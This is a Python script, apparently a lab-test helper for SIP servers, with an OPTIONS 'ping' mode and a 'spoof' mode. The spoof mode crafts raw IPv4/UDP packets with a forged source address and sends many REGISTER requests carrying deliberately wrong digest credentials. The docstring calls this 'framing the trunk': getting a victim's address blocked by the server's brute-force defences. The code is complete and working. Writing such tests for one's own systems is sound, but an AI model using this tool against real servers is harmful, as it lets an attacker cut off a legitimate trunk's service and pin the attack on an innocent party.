#!/usr/bin/env python3
"""Small SIP helpers for the enforcement lab test (standard library only; run in a namespace).

  sip-tool.py ping SERVER [TIMEOUT_S]
      Sends one OPTIONS over UDP; exit 0 when any answer comes back, 1 otherwise.

  sip-tool.py spoof SERVER SPOOFED_SOURCE USER COUNT
      Framing the trunk: asks SERVER for a digest challenge from our own address (one REGISTER
      without credentials: a normal digest step, not a failure), then sends COUNT REGISTERs with
      wrong credentials for USER whose IPv4 source address is SPOOFED_SOURCE, through a raw socket
      (IP_HDRINCL). The spoof is real at the IP layer: the server's answers go to the real owner
      of SPOOFED_SOURCE, never back to us. Prints the number of packets sent.
"""
import hashlib
import os
import random
import re
import socket
import struct
import sys
import time


def request(method, server, user, src_ip, src_port, call_id, cseq, extra=""):
    branch = "z9hG4bK" + os.urandom(6).hex()
    tag = os.urandom(4).hex()
    return (
        f"{method} sip:{server} SIP/2.0\r\n"
        f"Via: SIP/2.0/UDP {src_ip}:{src_port};branch={branch};rport\r\n"
        f"Max-Forwards: 70\r\n"
        f"From: <sip:{user}@{server}>;tag={tag}\r\n"
        f"To: <sip:{user}@{server}>\r\n"
        f"Call-ID: {call_id}\r\n"
        f"CSeq: {cseq} {method}\r\n"
        f"Contact: <sip:{user}@{src_ip}:{src_port}>\r\n"
        f"Expires: 60\r\n"
        f"User-Agent: lab-trunk-framer\r\n"
        f"{extra}"
        f"Content-Length: 0\r\n\r\n"
    ).encode()


def ping(server, timeout):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    s.bind(("0.0.0.0", 0))
    ip, port = s.getsockname()
    if ip == "0.0.0.0":
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        probe.connect((server, 5060))
        ip = probe.getsockname()[0]
        probe.close()
    s.sendto(request("OPTIONS", server, "ping", ip, port, os.urandom(8).hex(), 1), (server, 5060))
    try:
        data, _ = s.recvfrom(8192)
        print(data.decode("utf-8", "replace").split("\r\n", 1)[0])
        return 0
    except socket.timeout:
        print("no answer")
        return 1


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def spoof(server, source, user, count):
    # 1. a fresh challenge, asked from our own address
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.connect((server, 5060))
    ip, port = s.getsockname()
    s.send(request("REGISTER", server, user, ip, port, os.urandom(8).hex(), 1))
    data = s.recv(8192).decode("utf-8", "replace")
    s.close()
    m = re.search(r'^WWW-Authenticate:.*?nonce="([^"]+)"', data, re.M | re.I)
    realm = re.search(r'realm="([^"]+)"', data)
    if not m or not realm:
        print("no challenge: " + data.split("\r\n", 1)[0], file=sys.stderr)
        return 2
    nonce, realm = m.group(1), realm.group(1)
    # 2. wrong credentials in the trunk's name, from a raw socket
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    src = socket.inet_aton(source)
    dst = socket.inet_aton(server)
    sent = 0
    for i in range(count):
        call_id = os.urandom(8).hex()
        wrong = hashlib.md5(f"guess-{i}-{random.random()}".encode()).hexdigest()
        auth = (
            f'Authorization: Digest username="{user}", realm="{realm}", nonce="{nonce}", '
            f'uri="sip:{server}", response="{wrong}", algorithm=MD5, qop=auth, nc={i + 1:08x}, '
            f'cnonce="{os.urandom(4).hex()}"\r\n'
        )
        payload = request("REGISTER", server, user, source, 5060, call_id, 2, auth)
        udp_len = 8 + len(payload)
        pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_len)
        udp = struct.pack("!HHHH", 5060, 5060, udp_len, 0)
        csum = checksum(pseudo + udp + payload) or 0xFFFF
        udp = struct.pack("!HHHH", 5060, 5060, udp_len, csum)
        ip_hdr = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.randint(0, 0xFFFF), 0, 64,
            socket.IPPROTO_UDP, 0, src, dst,
        )
        raw.sendto(ip_hdr + udp + payload, (server, 0))
        sent += 1
        time.sleep(0.02)
    print(sent)
    return 0


def main(argv):
    if len(argv) >= 2 and argv[0] == "ping":
        return ping(argv[1], float(argv[2]) if len(argv) > 2 else 1.0)
    if len(argv) == 5 and argv[0] == "spoof":
        return spoof(argv[1], argv[2], argv[3], int(argv[4]))
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
